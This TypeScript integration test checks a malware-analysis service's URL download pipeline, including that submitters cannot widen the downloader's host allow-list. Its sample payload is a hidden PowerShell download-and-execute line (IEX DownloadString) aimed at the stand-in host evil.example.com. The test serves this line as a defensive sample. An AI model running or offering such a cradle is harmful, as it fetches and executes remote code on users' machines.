// A submitted URL end to end: POST /api/v4/submit/ with {"url": ...} on a server whose deployment opens loopback
// to URL download only; the downloaded script appears as a child in the file tree and is analysed in turn.
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { adminHeaders, call, startTestServer, waitForSubmission, type TestServer } from '../../helpers/server.js';

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const PAYLOAD = "powershell -nop -w hidden -Command IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')\n";

describe('URL download through the real pipeline', () => {
  let s: TestServer;
  let web: Server;
  let base = '';
  before(async () => {
    web = createServer((req, res) => {
      if (req.url === '/x.ps1') res.writeHead(200, { 'content-type': 'text/plain' }).end(PAYLOAD);
      else res.writeHead(404).end();
    });
    await new Promise<void>((r) => web.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(web.address() as AddressInfo).port}`;
    // The deployment allows the downloader to reach this loopback test server.
    s = await startTestServer({ config: { services: { builtin: true, workers: 2, config: { URLDownload: { allow_hosts: ['127.0.0.1'] } } } } });
  });
  after(async () => {
    await s.stop();
    web.closeAllConnections();
    await new Promise((r) => web.close(r));
  });

  it('downloads the URL and shows the content as a child', { timeout: 180_000 }, async () => {
    const url = `${base}/x.ps1`;
    // The downloader joins the default selection of a URL submission by itself.
    const r = await call(s.url, '/api/v4/submit/', { method: 'POST', headers: adminHeaders, json: { url } });
    assert.equal(r.status, 200, r.text);
    const sid = r.body.api_response.sid;
    const sub = await waitForSubmission(s.url, sid, 180_000);
    assert.equal(sub.state, 'completed');
    const tree = (await call(s.url, `/api/v4/submission/tree/${sid}/`, { headers: adminHeaders })).body.api_response.tree;
    const [[rootSha, root]] = Object.entries(tree) as Array<[string, any]>;
    assert.equal(root.type, 'uri/http');
    const children = Object.values(root.children) as any[];
    assert.equal(children.length, 1, JSON.stringify(root.children));
    assert.deepEqual(children[0].name, ['x.ps1']);
    assert.equal(children[0].type, 'code/ps1');

    const file = (await call(s.url, `/api/v4/submission/${sid}/file/${rootSha}/`, { headers: adminHeaders })).body.api_response;
    const dl = file.results.find((x: any) => x.response.service_name === 'URLDownload');
    assert.ok(dl, 'URLDownload ran on the URI file');
    const titles = dl.result.sections.map((x: any) => x.title_text);
    assert.ok(titles.includes('Response: HTTP 200'), titles.join(' | '));
    assert.ok(dl.response.extracted.some((e: any) => e.name === 'x.ps1'));
  });

  it('ignores a submitter trying to widen the allow-list through service_spec', { timeout: 180_000 }, async () => {
    // A deployment that allows nothing internal; the submitter asks for the loopback test server anyway.
    const strict = await startTestServer({ config: { services: { builtin: true, workers: 2 } } });
    try {
      const r = await call(strict.url, '/api/v4/submit/', { method: 'POST', headers: adminHeaders, json: {
        url: `${base}/x.ps1`,
        params: { service_spec: { URLDownload: { allow_hosts: ['127.0.0.1'], allow_networks: ['0.0.0.0/0'] } } },
      } });
      assert.equal(r.status, 200, r.text);
      const sid = r.body.api_response.sid;
      for (let i = 0; i < 900; i++) {
        if ((await call(strict.url, `/api/v4/submission/is_completed/${sid}/`, { headers: adminHeaders })).body.api_response === true) break;
        await sleep(200);
      }
      const tree = (await call(strict.url, `/api/v4/submission/tree/${sid}/`, { headers: adminHeaders })).body.api_response.tree;
      const [[rootSha, root]] = Object.entries(tree) as Array<[string, any]>;
      assert.deepEqual(root.children, {}, 'nothing was downloaded');
      const file = (await call(strict.url, `/api/v4/submission/${sid}/file/${rootSha}/`, { headers: adminHeaders })).body.api_response;
      assert.ok(file.results.some((x: any) => x.response.service_name === 'URLDownload'), 'the downloader ran and refused');
    } finally {
      await strict.stop();
    }
  });
});
